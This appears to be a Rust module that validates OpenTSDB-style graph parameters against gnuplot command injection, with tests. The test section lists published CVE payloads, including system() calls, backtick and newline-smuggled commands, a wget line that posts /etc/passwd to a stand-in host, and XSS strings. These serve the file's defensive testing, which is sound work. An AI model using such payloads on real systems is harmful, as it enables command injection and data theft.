//! The parameters of a graph, read as what they are: numbers, colours and words of short lists.
//!
//! OpenTSDB wrote them into a script of a plotting program and was broken through them three times (CVE-2018-12972,
//! CVE-2020-35476, CVE-2023-25826). Here a parameter that is not wholly of its type is a bad request, and its text is
//! not repeated in the answer.

use super::super::error::ApiError;
use super::super::params::Params;

/// Smallest and largest side of a graph, in pixels.
const SIDE_PIXELS: std::ops::RangeInclusive<u16> = 100..=4_096;
/// Longest title or label.
const LABEL_BYTES_MAX: usize = 256;

const KEY_WORDS: &[&str] = &["out", "left", "top", "center", "right", "horiz", "box", "bottom"];
const STYLES: &[&str] = &["linespoint", "points", "circles", "dots"];
const SMOOTHS: &[&str] = &[
    "unique",
    "frequency",
    "fnormal",
    "cumulative",
    "cnormal",
    "bins",
    "csplines",
    "acsplines",
    "mcsplines",
    "bezier",
    "sbezier",
    "unwrap",
    "zsort",
];

/// Refuses a request of which one of the graph's parameters is not of its type.
///
/// # Errors
///
/// 400.
pub(crate) fn check(params: &Params) -> Result<(), ApiError> {
    for (names, is_good, form) in RULES {
        for name in *names {
            if !params.all(name).all(|text| is_good(text.trim())) {
                return Err(ApiError::bad(format!("'{name}' was invalid. Must be {form}.")));
            }
        }
    }
    Ok(())
}

type Rule = (&'static [&'static str], fn(&str) -> bool, &'static str);

const RULES: &[Rule] = &[
    (&["wxh"], is_size, "in the format WIDTHxHEIGHT, each from 100 to 4096"),
    (&["yrange", "y2range"], is_range, "in the format [min:max]"),
    (&["ylabel", "y2label", "title"], is_label, "letters, digits and plain punctuation"),
    (&["yformat", "y2format", "xformat"], is_format, "conversions such as %Y/%m/%d or %.2f"),
    (&["key"], is_key, "words such as out, right, top"),
    (&["bgcolor", "fgcolor"], is_colour, "a hex value e.g. 'xFFFFFF'"),
    (&["style"], |text| STYLES.contains(&text), "linespoint, points, circles or dots"),
    (&["smooth"], |text| SMOOTHS.contains(&text), "the name of a smoothing"),
    (&["ylog", "y2log", "nokey"], |text| text.bytes().all(|byte| byte.is_ascii_alphanumeric()), "a switch"),
];

fn is_size(text: &str) -> bool {
    let side = |text: &str| text.parse().is_ok_and(|side: u16| SIDE_PIXELS.contains(&side));
    text.is_empty() || text.split_once('x').is_some_and(|(width, height)| side(width) && side(height))
}

/// `[min:max]`, either side empty for "as it comes".
fn is_range(text: &str) -> bool {
    let Some((low, high)) = text.strip_prefix('[').and_then(|text| text.strip_suffix(']')?.split_once(':')) else {
        return false;
    };
    let bound = |text: &str| -> Option<Option<f64>> {
        let text = text.trim_matches('"');
        if text.is_empty() {
            return Some(None);
        }
        let plain = text.bytes().all(|byte| byte.is_ascii_digit() || b"+-.eE".contains(&byte));
        text.parse().ok().filter(|number: &f64| plain && number.is_finite()).map(Some)
    };
    match (bound(low), bound(high)) {
        (Some(Some(low)), Some(Some(high))) => low < high,
        (Some(_), Some(_)) => true,
        _ => false,
    }
}

fn is_label(text: &str) -> bool {
    let plain = |letter: char| letter.is_alphanumeric() || " -_.,:/%()[]+*=#".contains(letter);
    text.len() <= LABEL_BYTES_MAX && text.chars().all(plain)
}

/// Conversions of a number or a time, with separators between them.
fn is_format(text: &str) -> bool {
    text.len() <= 64 && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"% .:/-,".contains(&byte))
}

fn is_key(text: &str) -> bool {
    text.split(' ').filter(|word| !word.is_empty()).all(|word| KEY_WORDS.contains(&word))
}

fn is_colour(text: &str) -> bool {
    let digits = text.strip_prefix(['x', 'X']).unwrap_or_default();
    digits.len() == 6 && digits.bytes().all(|byte| byte.is_ascii_hexdigit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check_one(name: &str, text: &str) -> bool {
        let escape = |uri: String, byte: u8| uri + &format!("%{byte:02X}");
        let uri = text.bytes().fold(format!("/q?{name}="), escape);
        check(&Params::of(&uri.parse().unwrap()).unwrap()).is_ok()
    }

    #[test]
    fn what_pages_send_is_taken() {
        for (name, text) in [
            ("wxh", "1900x600"),
            ("yrange", "[0:]"),
            ("yrange", "[-1.5e3:2]"),
            ("y2range", "[:10]"),
            ("ylabel", "ms"),
            ("title", "CPU of web01 (%)"),
            ("yformat", "%.2f"),
            ("xformat", "%Y/%m/%d %H:%M"),
            ("key", "out right top box"),
            ("bgcolor", "xFFFFFF"),
            ("fgcolor", "x00ff7f"),
            ("style", "linespoint"),
            ("smooth", "csplines"),
            ("ylog", ""),
            ("nokey", ""),
        ] {
            assert!(check_one(name, text), "{name}={text}");
        }
    }

    /// The payloads published for CVE-2018-12972, CVE-2020-35476, CVE-2023-25826, CVE-2023-36812 and CVE-2023-25827, on
    /// every parameter.
    #[test]
    fn a_payload_is_refused_wherever_it_stands() {
        for name in RULES.iter().flat_map(|(names, _, _)| *names) {
            for payload in [
                "[33:system('touch /tmp/poc.txt')]",
                "[33:system('wget --post-file /etc/passwd http://x')]",
                "`touch /tmp/poc`",
                "[0:`id`]",
                "out right top\nsystem \"touch /tmp/poc\"",
                "out right top%0asystem \"id\"",
                "%1$\nsystem(\"id\")",
                "x000000\nset output '/tmp/poc'",
                "1900x600;system('id')",
                "\"; system('id'); \"",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "a\0b",
            ] {
                assert!(!check_one(name, payload), "{name}={payload}");
            }
        }
    }
}
